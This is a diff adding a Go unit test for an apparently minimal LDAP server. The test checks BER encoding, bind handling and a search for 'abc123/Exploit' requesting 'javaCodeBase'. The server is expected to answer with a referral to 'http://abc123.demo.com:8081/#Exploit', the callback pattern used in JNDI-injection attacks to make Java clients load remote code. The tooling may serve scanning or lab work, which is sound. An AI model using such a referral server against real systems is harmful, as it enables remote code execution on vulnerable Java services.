@@ -0,0 +1,91 @@
+package ldapd
+
+import (
+	"bufio"
+	"net"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func ldapMessage(id int64, op []byte) []byte {
+	return encode(0x30, concat(encodeInt(0x02, id), op))
+}
+
+func TestServeConn(t *testing.T) {
+	var reqs []*Request
+	srv := &Server{Handler: func(req *Request) []string {
+		reqs = append(reqs, req)
+		if req.Op == OpSearch {
+			return []string{"http://abc123.demo.com:8081/#Exploit"}
+		}
+		return nil
+	}}
+	client, server := net.Pipe()
+	done := make(chan struct{})
+	go func() {
+		srv.ServeConn(server)
+		close(done)
+	}()
+	r := bufio.NewReader(client)
+
+	bind := encode(0x60, concat(encodeInt(0x02, 3), encode(0x04, nil), encode(0x80, nil)))
+	_, err := client.Write(ldapMessage(1, bind))
+	require.NoError(t, err)
+	resp, err := readMessage(r, 1<<16)
+	require.NoError(t, err)
+	parts, err := resp.children()
+	require.NoError(t, err)
+	require.Len(t, parts, 2)
+	assert.Equal(t, byte(0x61), parts[1].tag)
+
+	filter := encode(0xa0, concat(
+		encode(0x87, []byte("objectClass")),
+		encode(0xa3, concat(encode(0x04, []byte("cn")), encode(0x04, []byte("x")))),
+	))
+	search := encode(0x63, concat(
+		encode(0x04, []byte("abc123/Exploit")),
+		encodeInt(0x0a, 0), encodeInt(0x0a, 3),
+		encodeInt(0x02, 0), encodeInt(0x02, 0),
+		encode(0x01, []byte{0}),
+		filter,
+		encode(0x30, encode(0x04, []byte("javaCodeBase"))),
+	))
+	_, err = client.Write(ldapMessage(2, search))
+	require.NoError(t, err)
+	resp, err = readMessage(r, 1<<16)
+	require.NoError(t, err)
+	parts, err = resp.children()
+	require.NoError(t, err)
+	require.Equal(t, byte(0x65), parts[1].tag)
+	result, err := parts[1].children()
+	require.NoError(t, err)
+	code, _ := result[0].int()
+	assert.Equal(t, int64(resultReferral), code)
+	urls, err := result[3].children()
+	require.NoError(t, err)
+	assert.Equal(t, "http://abc123.demo.com:8081/#Exploit", string(urls[0].content))
+
+	_, err = client.Write(ldapMessage(3, encode(0x42, nil)))
+	require.NoError(t, err)
+	<-done
+
+	require.Len(t, reqs, 2)
+	assert.Equal(t, OpBind, reqs[0].Op)
+	assert.Equal(t, int64(3), reqs[0].Version)
+	assert.Equal(t, "abc123/Exploit", reqs[1].DN)
+	assert.Equal(t, "(&(objectClass=*)(cn=x))", reqs[1].Filter)
+	assert.Equal(t, []string{"javaCodeBase"}, reqs[1].Attributes)
+	assert.Equal(t, int64(2), reqs[1].MessageID)
+}
+
+func TestEncodeInt(t *testing.T) {
+	for _, v := range []int64{0, 1, 127, 128, 255, 256, 65535, -1, -129} {
+		el, _, err := parseElement(encodeInt(0x02, v))
+		require.NoError(t, err)
+		got, err := el.int()
+		require.NoError(t, err)
+		assert.Equal(t, v, got)
+	}
+}